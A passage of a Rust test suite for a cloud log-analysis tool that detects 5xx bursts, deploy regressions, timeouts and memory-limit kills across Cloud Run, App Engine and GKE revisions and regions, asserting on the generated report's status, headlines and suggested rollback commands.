    // by the healthy region's revision of the same name.
    let error = |i: usize, region: &str| {
        system_line(
            900 + i,
            640 + i as i64 * 30,
            "orders",
            "orders-e4f5a6b",
            "ledger sync aborted: shard 7 mismatch",
        )
        .replace(r#""severity":"WARNING""#, r#""severity":"ERROR""#)
        .replace("europe-west1", region)
    };
    let lead = |lines: &[String]| {
        let r = report_of(lines);
        let u = r["unknown"]
            .as_array()
            .unwrap()
            .iter()
            .find(|u| {
                u["template"]
                    .as_str()
                    .unwrap()
                    .starts_with("ledger sync aborted")
            })
            .cloned()
            .unwrap_or_else(|| panic!("{}", r["unknown"]));
        assert_eq!(u["revisions"], serde_json::json!(["orders-e4f5a6b"]), "{u}");
        u["only_in_failing_revision"].as_bool().unwrap()
    };
    let mut lines = same_names_in_two_regions();
    lines.extend((0..3).map(|i| error(i, "europe-west1")));
    assert!(lead(&lines));
    lines.extend((3..6).map(|i| error(i, "asia-east1")));
    assert!(!lead(&lines));
}

#[test]
fn a_line_without_a_region_of_a_name_in_two_regions_is_given_no_region() {
    // Some stdout lines lack the location label: their revision name runs in both
    // regions, so which one wrote them is unknown.
    let mut lines = same_names_in_two_regions();
    for i in 0..12 {
        lines.push(
            system_line(
                900 + i,
                700 + i as i64 * 30,
                "orders",
                "orders-e4f5a6b",
                "worker ready",
            )
            .replace(r#""location":"europe-west1","#, ""),
        );
    }
    let r = report_of(&lines);
    let apart = row(&r, "orders-e4f5a6b", None);
    assert_eq!(
        (apart["entries"].as_u64(), apart["verdict"].as_str()),
        (Some(12), Some("unknown")),
        "{apart}"
    );
    assert_eq!(
        row(&r, "orders-e4f5a6b", Some("europe-west1"))["entries"],
        30
    );
    assert_eq!(
        row(&r, "orders-e4f5a6b", Some("europe-west1"))["verdict"],
        "broken"
    );
    let reg = &r["regressions"][0];
    assert_eq!(reg["region"], "europe-west1", "{reg}");
    assert_eq!(r["regressions"].as_array().unwrap().len(), 1);
    let md = markdown_of(&lines);
    assert!(md.contains("| `orders-e4f5a6b` (region unknown) |"), "{md}");
    // A name seen in one region only: its lines without the label join it.
    let one: Vec<String> = lines
        .iter()
        .filter(|l| !l.contains("asia-east1"))
        .cloned()
        .collect();
    let r = report_of(&one);
    let rows = r["revisions"].as_array().unwrap();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(
        row(&r, "orders-e4f5a6b", Some("europe-west1"))["entries"],
        42
    );
}

#[test]
fn a_weaker_finding_does_not_lower_most_requests_failing() {
    // Every call of a 5-minute schedule times out: the timeout rule fires (medium),
    // and the level stays high because every request failed.
    let lines: Vec<String> = (0..12)
        .map(|i| {
            request(i, i as i64 * 300, "sync", "sync-00056-tis", 504).replace(
                r#""severity":"ERROR","#,
                r#""severity":"ERROR","textPayload":"The request has been terminated because it has reached the maximum request timeout. To change this limit, see https://cloud.google.com/run/docs/configuring/request-timeout","#,
            )
        })
        .collect();
    let r = report_of(&lines);
    assert_eq!(
        finding(&r, "CLOUD_RUN_REQUEST_TIMEOUT").unwrap()["severity"],
        "medium"
    );
    assert_eq!(r["status"]["level"], "high", "{}", r["status"]);
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("; most requests fail: 12 of 12 requests to `sync` (revision `sync-00056-tis`) failed with 5xx"),
        "{h}"
    );
}

#[test]
fn failing_requests_that_good_ones_followed_are_not_a_current_outage() {
    // 00003 fails 12 of 12 calls; then 00004 serves 15 of 15.
    let mut lines: Vec<String> = (0..12)
        .map(|i| request(i, i as i64 * 120, "dev", "dev-00003-xyz", 500))
        .collect();
    lines.extend((12..27).map(|i| request(i, 1500 + i as i64 * 120, "dev", "dev-00004-abc", 200)));
    let r = report_of(&lines);
    assert_eq!(r["status"]["level"], "ok", "{}", r["status"]);
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("but 12 of 12 requests to `dev` (revision `dev-00003-xyz`) failed with 5xx, the last at 2025-03-01T00:22:00.000100Z; requests since succeed"),
        "{h}"
    );
    // Beside another service's finding, a current outage is still named.
    let mut both: Vec<String> = lines[..12].to_vec();
    both.extend((0..30).map(|i| {
        request(
            100 + i,
            600 + i as i64 * 5,
            "catalog",
            "catalog-00007-xuf",
            503,
        )
    }));
    let r = report_of(&both);
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(h.contains("on `catalog`"), "{h}");
    assert!(
        h.contains("; most requests fail: 12 of 12 requests to `dev`"),
        "{h}"
    );
}

#[test]
fn app_engine_request_lines_the_app_writes_are_not_counted_twice() {
    let gae = |i: usize, secs: i64, log: &str| {
        request(i, secs, "default", "20251007t092900", 503)
            .replace("run.googleapis.com%2Frequests", log)
            .replace(
                r#""resource":{"labels":{"configuration_name":"default","location":"europe-west1","project_id":"shop-prod","revision_name":"20251007t092900","service_name":"default"},"type":"cloud_run_revision"}"#,
                r#""resource":{"labels":{"module_id":"default","project_id":"shop-prod","version_id":"20251007t092900","zone":"europe-west1-b"},"type":"gae_app"}"#,
            )
    };
    let mut lines = Vec::new();
    for i in 0..30 {
        lines.push(gae(
            i,
            600 + i as i64 * 5,
            "appengine.googleapis.com%2Frequest_log",
        ));
        lines.push(gae(100 + i, 600 + i as i64 * 5, "stdout"));
    }
    assert!(lines[0].contains("gae_app"), "{}", lines[0]);
    let r = report_of(&lines);
    assert_eq!(finding(&r, "HTTP_5XX_BURST").unwrap()["count"], 30);
    assert_eq!(r["input"]["app_requests_left_out"], 30);
}

#[test]
fn a_slow_schedule_that_starts_failing_at_a_deploy_is_a_regression() {
    // One call every 5 minutes: 00020 answers 200 for 2 hours, 00021 500 for 2 hours.
    let mut lines: Vec<String> = (0..24)
        .map(|i| request(i, i as i64 * 300, "sync", "sync-00020-aaa", 200))
        .collect();
    lines.extend((24..48).map(|i| request(i, i as i64 * 300, "sync", "sync-00021-bbb", 500)));
    let r = report_of(&lines);
    assert!(
        r["findings"].as_array().unwrap().is_empty(),
        "no rule fires: {}",
        r["status"]
    );
    assert_eq!(r["status"]["level"], "high");
    let reg = &r["regressions"][0];
    assert_eq!(
        (reg["last_good"].as_str(), reg["first_bad"].as_str()),
        (Some("sync-00020-aaa"), Some("sync-00021-bbb")),
        "{reg}"
    );
    assert_eq!(verdict(&r, "sync-00021-bbb"), "broken");
    assert!(
        commands(&r)
            .iter()
            .any(|c| c.contains("update-traffic sync --to-revisions=sync-00020-aaa=100")),
        "{:?}",
        commands(&r)
    );
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("broken since revision `sync-00021-bbb`, last good `sync-00020-aaa`"),
        "{h}"
    );
    // The revision table counts no finding matches: none fired.
    let row = r["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["revision"] == "sync-00021-bbb")
        .unwrap();
    assert_eq!(row["findings"], 0, "{row}");
}

#[test]
fn failures_spread_over_redeploys_or_in_health_checks_still_count() {
    // Five quick redeploys, three calls each, every one a 500.
    let lines: Vec<String> = (0..15)
        .map(|i| {
            let rev = format!("dev-{:05}-abc", 10 + i / 3);
            request(i, i as i64 * 120, "dev", &rev, 500)
        })
        .collect();
    let r = report_of(&lines);
    assert_eq!(r["status"]["level"], "high", "{}", r["status"]);
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("15 of 15 requests to `dev` (5 revisions) failed with 5xx"),
        "{h}"
    );
    // Only uptime checks, every one answered 503: the service is down, not healthy.
    let probes: Vec<String> = (0..12)
        .map(|i| {
            request(i, i as i64 * 120, "dev", "dev-00003-xyz", 503).replace(
                "python-httpx/0.28.1",
                "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)",
            )
        })
        .collect();
    let r = report_of(&probes);
    let h = r["status"]["headline"].as_str().unwrap();
    assert!(
        h.contains("12 of 12 requests (health checks included: they fail too)"),
        "{h}"
    );
    // Passing health checks beside a few failures are still left aside.
    let mut mixed: Vec<String> = (0..6)
        .map(|i| request(i, i as i64 * 120, "dev", "dev-00003-xyz", 500))
        .collect();
    mixed.extend((0..40).map(|i| {
        request(100 + i, i as i64 * 9, "dev", "dev-00003-xyz", 200)
            .replace("python-httpx/0.28.1", "GoogleHC/1.0")
    }));
    let r = report_of(&mixed);
    assert_eq!(r["status"]["level"], "ok");
    assert!(r["status"]["headline"]
        .as_str()
        .unwrap()
        .contains("but 6 of 6 requests (health checks aside)"));
}

#[test]
fn a_gke_deployment_and_a_cloud_run_service_of_one_name_are_apart() {
    let gke = |i: usize, secs: i64, hash: &str, status: u16| {
        request(i, secs, "cart", "cart-00042-abc", status)
            .replace("run.googleapis.com%2Frequests", "stdout")
            .replace(
                r#""labels":{"instanceId":"0069c7a98824795ed4cca76950d82f38b005d1f6"}"#,
                &format!(r#""labels":{{"k8s-pod/app":"cart","k8s-pod/pod-template-hash":"{hash}"}}"#),
            )
            .replace(
                r#""resource":{"labels":{"configuration_name":"cart","location":"europe-west1","project_id":"shop-prod","revision_name":"cart-00042-abc","service_name":"cart"},"type":"cloud_run_revision"}"#,
                &format!(r#""resource":{{"labels":{{"cluster_name":"prod","container_name":"cart","location":"europe-west1","namespace_name":"default","pod_name":"cart-{hash}-x7k2p","project_id":"shop-prod"}},"type":"k8s_container"}}"#),
            )
    };
    let mut lines = Vec::new();
    for i in 0..60 {
        // Cloud Run's cart, deployed after GKE's first pods, serves fine all along.
        lines.push(request(
            i,
            300 + i as i64 * 20,
            "cart",
            "cart-00042-abc",
            200,
        ));
        // GKE's cart: 7d9c8b6f5, then 5f6a7b8c9 failing.
        let (hash, status) = if i < 30 {
            ("7d9c8b6f5", 200)
        } else {
            ("5f6a7b8c9", 503)
        };
        lines.push(gke(100 + i, i as i64 * 20 + 5, hash, status));
    }
    assert!(lines[1].contains("k8s_container"), "{}", lines[1]);
    let r = report_of(&lines);
    let reg = &r["regressions"][0];
    assert_eq!(
        (reg["first_bad"].as_str(), reg["last_good"].as_str()),
        (Some("5f6a7b8c9"), Some("7d9c8b6f5")),
        "{reg}"
    );
}

#[test]
fn a_revision_without_a_location_label_is_not_a_place_of_its_own() {
    let mut lines = Vec::new();
    for i in 0..60 {
        let (rev, status) = if i < 30 {
            ("orders-00010-aaa", 200)
        } else {
            ("orders-00011-bbb", 503)
        };
        let line = request(i, i as i64 * 20, "orders", rev, status);
        // The good revision's entries lost their location label.
        lines.push(if i < 30 {
            line.replace(r#""location":"europe-west1","#, "")
        } else {
            line
        });
    }
    let r = report_of(&lines);
    let reg = &r["regressions"][0];
    assert_eq!(
        (reg["last_good"].as_str(), reg["first_bad"].as_str()),
        (Some("orders-00010-aaa"), Some("orders-00011-bbb")),
        "{}",
        r["regressions"]
    );
    assert_eq!(reg["split"], false);
}

#[test]
fn most_requests_failing_is_neither_hidden_nor_raised_by_the_wrong_requests() {
    let probe = |l: String| l.replace("python-httpx/0.28.1", "GoogleHC/1.0");
    // billing fails 12 of 12 slow calls; alpha fails exactly half of 40.
    let mut lines: Vec<String> = (0..12)
        .map(|i| request(i, i as i64 * 300, "billing", "billing-00004-def", 500))
        .collect();
    lines.extend((0..40).map(|i| {
        request(
            100 + i,
            i as i64 * 90,
            "alpha",
            "alpha-00002-aaa",
            if i % 2 == 0 { 500 } else { 200 },
        )
    }));
    let r = report_of(&lines);
    assert_eq!(r["status"]["level"], "high", "{}", r["status"]);
    assert!(
        r["status"]["headline"]
            .as_str()
            .unwrap()
            .contains("12 of 12 requests to `billing`"),
        "{}",
        r["status"]
    );
    // Health checks failing beside real requests that succeed are no outage.
    let mut checks: Vec<String> = (0..24)
        .map(|i| probe(request(i, i as i64 * 300, "web", "web-00003-xyz", 503)))
        .collect();
    checks.extend(
        (0..20).map(|i| request(100 + i, 10 + i as i64 * 360, "web", "web-00003-xyz", 200)),
    );
    let r = report_of(&checks);
    assert_eq!(r["status"]["level"], "ok", "{}", r["status"]);
    // A traffic split: the old revision serving beside the failing one is no recovery.
    let mut split: Vec<String> = (0..30)
        .map(|i| request(i, i as i64 * 120, "orders", "orders-00007-xuf", 200))
        .collect();
    split.extend((0..30).map(|i| {
        request(
            100 + i,
            1800 + i as i64 * 120,
            "orders",
            "orders-00008-new",
            500,
        )
    }));
    split.extend((0..30).map(|i| {
        request(
            200 + i,
            1860 + i as i64 * 120,
            "orders",
            "orders-00007-xuf",
            200,
        )
    }));
    let r = report_of(&split);
    assert_eq!(r["status"]["level"], "high", "{}", r["status"]);
    assert!(
        !r["status"]["headline"]
            .as_str()
            .unwrap()
            .contains("requests since succeed"),
        "{}",
        r["status"]
    );
}

#[test]
fn a_cause_s_answer_is_about_the_service_the_question_names() {
    let oom = "Memory limit of 1024 MiB exceeded with 1100 MiB used. Consider increasing the memory limit, see https://cloud.google.com/run/docs/configuring/memory-limits";
    // checkout: 3 OOM kills, then 5xx; billing: 8 OOM kills and no 5xx.
    let mut lines: Vec<String> = (0..3)
        .map(|i| {
            system_line(
                i,
                300 + i as i64 * 60,
                "checkout",
                "checkout-00007-xuf",
                oom,
            )
        })
        .collect();
    lines.extend((0..8).map(|i| {
        system_line(
            10 + i,
            300 + i as i64 * 30,
            "billing",
            "billing-00003-kip",
            oom,
        )
    }));
    lines.extend((0..30).map(|i| {
        request(
            100 + i,
            600 + i as i64 * 5,
            "checkout",
            "checkout-00007-xuf",
            503,
        )
    }));
    let r = report_of(&lines);
    let why = &r["five_whys"][0];
    assert!(why["why"].as_str().unwrap().contains("checkout"), "{why}");
    let because = why["because"].as_str().unwrap();
    assert!(
        because.contains("instances of checkout 3 times"),
        "{because}"
    );
}

#[test]
fn a_finding_in_one_region_of_a_service_aims_its_commands_there() {
    let oom = "Memory limit of 1024 MiB exceeded with 1100 MiB used. Consider increasing the memory limit, see https://cloud.google.com/run/docs/configuring/memory-limits";
    let mut lines: Vec<String> = (0..30)
        .map(|i| request(i, i as i64 * 20, "checkout", "checkout-00007-xuf", 200))
        .collect();
    lines.extend((0..4).map(|i| {
        system_line(
            100 + i,
            60 + i as i64 * 60,
            "checkout",
            "checkout-00031-use",
            oom,
        )
        .replace("europe-west1", "us-central1")
    }));
    let r = report_of(&lines);
    assert!(
        finding(&r, "CLOUD_RUN_MEMORY_LIMIT").is_some(),
        "{}",
        r["status"]
    );
    let cmds = commands(&r);
    assert!(!cmds.is_empty());
    for c in cmds.iter().filter(|c| c.contains("--region")) {
        assert!(c.contains("--region=us-central1"), "{c}");
    }
}

#[test]
fn one_good_request_between_failing_calls_is_no_recovery() {
    // A client posts every 5 minutes and gets 500s (too slow for a burst); users'
    // requests in between succeed, the last one a minute after the last failure.
    let mut lines = Vec::new();
    for round in 0..12 {
        for k in 0..2 {
            let i = round * 2 + k;
            lines.push(request(
                i,
                round as i64 * 300 + k as i64,
                "shop",
                "shop-00012-abc",
                500,
            ));
        }
        lines.push(request(
            100 + round,
            round as i64 * 300 + 60,
            "shop",
            "shop-00012-abc",
            200,
        ));
    }
    let r = report_of(&lines);
    assert_eq!(r["status"]["level"], "high", "{}", r["status"]);
    assert!(!r["status"]["headline"]
        .as_str()
        .unwrap()
        .contains("requests since succeed"));
}

#[test]
fn a_service_filter_does_not_make_a_stopped_failure_ongoing() {
    // `orders` fails for 10 minutes from 00:30 and logs nothing after; `billing` logs
    // healthily from 00:00 to 01:30. The logs span 00:00-01:30 whatever --service
    // keeps: the burst is over, and it was not under way when the logs began.
    let mut lines = Vec::new();
    for i in 0..180 {
        lines.push(request(
            i,
            i as i64 * 30,
            "billing",
            "billing-00007-kuv",
            200,
        ));
    }
    for i in 0..120 {
        lines.push(request(
            1000 + i,
            1800 + i as i64 * 5,
            "orders",
            "orders-00042-vex",
            503,
        ));
    }
    let mut input = lines.join("\n");
    input.push('\n');
    for args in [vec![], vec!["--service", "orders"]] {
        let mut cmd = vec!["report", "--format", "json", "-"];
        cmd.extend(args.iter());
        let r: Value = serde_json::from_str(&lt(cmd).stdin(input.clone()).code(0).stdout).unwrap();
        let f = finding(&r, "HTTP_5XX_BURST").expect("the burst is found");
        let t = &f["timeline"];
        assert_eq!(t["ongoing"], false, "{args:?}: {t}");
        assert_eq!(t["under_way_at_start"], false, "{args:?}: {t}");
        let headline = r["status"]["headline"].as_str().unwrap_or_default();
        assert!(
            headline.contains("last at 2025-03-01T00:39:55"),
            "{args:?}: {headline}"
        );
    }
}
